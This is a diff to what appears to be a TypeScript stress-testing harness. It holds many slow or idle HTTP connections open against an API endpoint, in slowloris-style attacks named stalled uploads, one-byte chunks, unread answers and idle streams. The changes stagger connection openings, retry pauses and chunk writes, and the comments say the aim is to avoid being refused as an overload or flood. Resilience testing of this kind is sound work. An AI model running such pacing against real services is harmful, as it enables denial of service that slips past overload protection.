@@ -4,13 +4,15 @@ import { connect, type Socket } from 'node:net'
 // is closed is opened again a second later.
 
 export type Attack = 'stalled uploads' | 'one-byte chunks' | 'unread answers' | 'idle streams'
-export type Job = { url: string; keys: readonly string[]; each: number }
+/** Connections are opened over some time: the calls of a faster sender would be refused as an overload. */
+export type Job = { url: string; keys: readonly string[]; each: number; openingMs: number }
 export type Report = { open: number; statuses: Record<string, number> }
 
 const pauseMs = 1000
+/** A sender that tried again at once would measure a flood of connections. */
+const refusedPauseMs = 10_000
 const chunksPerSecond = 10
-/** Connections are opened over this time, so that the sender is not the bottleneck. */
-const openingMs = 10_000
+const chunkParts = 10
 
 const prompt = (script: object) => `Go.\n#script ${JSON.stringify(script)}`
 const model = 'claude-scripted'
@@ -51,6 +53,7 @@ function hold(attack: Attack, key: string, url: URL) {
     socket.once('data', (head) => {
       const status = `${attack} ${head.toString('latin1', 9, 12)}`
       statuses[status] = (statuses[status] ?? 0) + 1
+      if (!status.endsWith('200')) setTimeout(() => socket.destroy(), refusedPauseMs)
     })
   }
   socket.once('close', () => {
@@ -60,7 +63,7 @@ function hold(attack: Attack, key: string, url: URL) {
   })
 }
 
-function begin({ url, keys, each }: Job) {
+function begin({ url, keys, each, openingMs }: Job) {
   const target = new URL(url)
   const attacks = Object.keys(payloads) as Attack[]
   for (let index = 0; index < each; index++) {
@@ -71,9 +74,16 @@ function begin({ url, keys, each }: Job) {
       (index / each) * openingMs,
     )
   }
-  setInterval(() => {
-    for (const socket of chunking) socket.write('1\r\n \r\n')
-  }, 1000 / chunksPerSecond)
+  // A part of them at a time: all at once would be a burst, ten times a second.
+  let part = 0
+  setInterval(
+    () => {
+      part = (part + 1) % chunkParts
+      let index = 0
+      for (const socket of chunking) if (index++ % chunkParts === part) socket.write('1\r\n \r\n')
+    },
+    1000 / chunksPerSecond / chunkParts,
+  )
 }
 
 process.on('message', (message) => {
